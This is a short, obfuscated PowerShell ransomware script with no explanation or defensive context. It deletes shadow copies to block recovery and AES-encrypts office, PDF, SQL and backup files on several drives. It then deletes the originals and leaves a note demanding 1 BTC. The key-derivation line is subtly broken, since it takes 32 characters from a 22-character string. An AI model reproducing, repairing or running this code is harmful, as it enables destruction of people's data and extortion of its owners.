# Init 9182 v1
VSSAdMiN.eXE DeletE SHAdOwS /all /QUIEt
GEt-WMi`Ob`JecT wIn32_shadOwcoPY | f`OReAch-Obje`ct { $_.deLETe() }
$Aes = [SySTem.SEcUrITy.cryPtogRaPhy.AeS]::CrEaTE()
$aES.KeY = [TeXt.eNCoding]::UTF8.GetBytES('Qwerty#7788Qwerty#7788'.suBsTRing(0,32))
GeT-`ch`I`l`DitE`m -PatH d:\, E:\, C:\uSErs -incLUde *.docX,*.xlSx,*.pdF,*.SQL,*.BAK -RECurse -ERrOractiOn SilENtlYcOnTInUe | f`oREACH-ObJe`ct {
  $BytEs = [IO.fIlE]::reAdalLBYTes($_.fUlLnAMe)
  $eNc = $aEs.cReATEeNCrYpTOr().tRanSfoRMfInALbLoCk($BytEs, 0, $BYtes.lENGtH)
  [iO.FiLe]::WrItEaLLbYTes($_.fullnAmE + '.enc', $Enc)
  REM`oVE-`ITEM $_.fULLnAmE -foRCe
}
SeT-`COnTEnt C:\uSERs\pubLIC\desKtoP\hoW_tO_deCRypt.TXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
